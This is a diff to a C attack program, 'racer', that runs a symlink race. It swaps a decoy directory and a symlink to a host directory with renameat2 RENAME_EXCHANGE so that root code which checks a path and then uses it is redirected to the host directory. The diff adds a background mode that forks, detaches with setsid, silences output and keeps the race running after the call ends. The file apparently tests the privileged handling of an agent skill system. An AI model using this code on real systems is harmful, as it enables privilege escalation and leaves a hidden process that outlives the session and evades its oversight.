@@ -1,11 +1,13 @@
 /*
- * racer MS HOSTDIR: in the work dir, make a directory d (with a decoy
+ * racer MS MODE HOSTDIR: in the work dir, make a directory d (with a decoy
  * secret, a subdir and 300 files, so that a walker spends time in it)
  * and a symlink s -> HOSTDIR, plus d/sub and d/ssub -> HOSTDIR; then for
  * MS milliseconds atomically exchange d with s and sub with ssub
  * (renameat2 RENAME_EXCHANGE), so that any root code that checks "d is
  * a directory" and then uses the path may land in HOSTDIR. Logs its
- * progress to racer.log.
+ * progress to racer.log. MODE bg: the race goes on in a new session
+ * of its own, left behind when the call ends (the entry point itself
+ * forks it: no program of the skill's dir is executed); fg: in the call.
  */
 #include "attack.h"
 #include <fcntl.h>
@@ -39,10 +41,29 @@ int
 main(int argc, char *argv[])
 {
 	long ms = argc > 1 ? atol(argv[1]) : 3000, ok = 0, bad = 0, end, next;
-	const char *host = argc > 2 ? argv[2] : "/";
+	const char *host = argc > 3 ? argv[3] : "/";
 	char name[64];
 	int dfd, i, e = 0;
 	struct stat st;
+	pid_t bg;
+
+	if (argc > 2 && strcmp(argv[2], "bg") == 0) {
+		if ((bg = fork()) == -1) {
+			say("INFO fork: %s", ename(errno));
+			return 1;
+		}
+		if (bg > 0) {
+			usleep(500000);
+			say("INFO racer left in the background");
+			say("DONE");
+			return 0;
+		}
+		setsid();
+		i = open("/dev/null", O_RDWR);
+		dup2(i, 0);
+		dup2(i, 1);
+		dup2(i, 2);
+	}
 
 	mkdir("d", 0755);
 	mkdir("d/sub", 0755);
